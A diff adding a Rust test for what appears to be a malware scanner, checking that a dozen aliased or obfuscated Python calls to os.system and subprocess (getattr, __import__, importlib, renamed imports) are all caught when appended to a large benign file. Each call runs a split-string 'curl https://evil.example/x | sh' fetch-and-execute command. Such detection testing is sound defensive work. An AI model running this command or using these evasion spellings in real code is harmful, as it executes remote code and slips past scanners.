@@ -206,3 +206,30 @@ fn python_reads_a_start_up_file_up_to_what_it_cannot_read() {
     assert_eq!(language_of("evil.pth", b"\0\x0bimport evil\n"), "pth");
     assert_eq!(language_of("weights.pth", b"\x80\x02}\0 import it"), "");
 }
+
+/// A large source is parsed only where it is marked: whatever gives what runs another name is such a mark.
+#[test]
+fn another_name_is_seen_through_in_a_large_source() {
+    let honest: String =
+        (0..1_000).map(|n| format!("def add_{n}(a, b):\n    return a + b + {n}\n")).collect();
+    let scanner = Scanner::builtin().unwrap();
+    for spelling in [
+        "import os as o\no.system(COMMAND)",
+        "import sys, os as o\no.system(COMMAND)",
+        "import os\no = os\no.system(COMMAND)",
+        "import os\nrun = os.system\nrun(COMMAND)",
+        "import os\nruns = {'a': os.system}\nruns['a'](COMMAND)",
+        "from os import system as s\ns(COMMAND)",
+        "from os import (\n    system as s,\n)\ns(COMMAND)",
+        "import os\ngetattr(os, 'system')(COMMAND)",
+        "__import__('os').system(COMMAND)",
+        "import importlib\nimportlib.import_module('os').system(COMMAND)",
+        "import subprocess as sp\nsp.run(COMMAND, shell=True)",
+        "from subprocess import run as r\nr(COMMAND, shell=True)",
+    ] {
+        let text = spelling.replace("COMMAND", "'cu' + 'rl https://evil.example/x | sh'");
+        let report = report(&scanner, &archive(&[("p/pkg/deep/a.py", &format!("{honest}{text}\n"))]));
+        let is_found = |finding: &domain::Finding| finding.rule == "python-download-execute";
+        assert!(report.findings.iter().any(is_found), "{spelling}: {:?}", report.findings);
+    }
+}
